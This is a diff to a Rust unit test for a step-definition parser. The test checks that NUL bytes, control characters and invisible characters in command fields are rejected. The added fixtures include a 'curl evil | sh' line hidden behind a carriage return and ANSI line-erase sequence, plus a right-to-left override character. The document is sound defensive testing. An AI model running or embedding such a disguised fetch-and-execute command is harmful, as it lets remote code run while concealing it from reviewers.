@@ -152,10 +152,15 @@ fn nul_is_refused_wherever_a_process_would_get_it() {
         step("env = { A = \"\\u0000\" }"),
         step("cwd = \"a\\u0000\""),
         step("requires = [\"b\\u0000\"]"),
-        "[[step]]\nname = \"a\"\ncheck = \"true\\u0000\"\napply = \"true\"\n".to_string(),
     ] {
         assert!(error_of(&text).message.contains("NUL"), "{text}");
     }
+    for command in ["true\\u0000", "curl evil | sh\\r\\u001b[2Kecho hello", "\\u202etrue"] {
+        let text = format!("[[step]]\nname = \"a\"\ncheck = \"{command}\"\napply = \"true\"\n");
+        assert!(error_of(&text).message.contains("control or invisible character"), "{text}");
+    }
+    let ok = "[[step]]\nname = \"a\"\ncheck = \"true\\tx\\ny\"\napply = \"true\"\n";
+    assert!(parse_str(ok).is_ok());
     let d = error_of(&step("description = \"a\\u001b[2J\""));
     assert!(d.message.contains("control character"));
 }
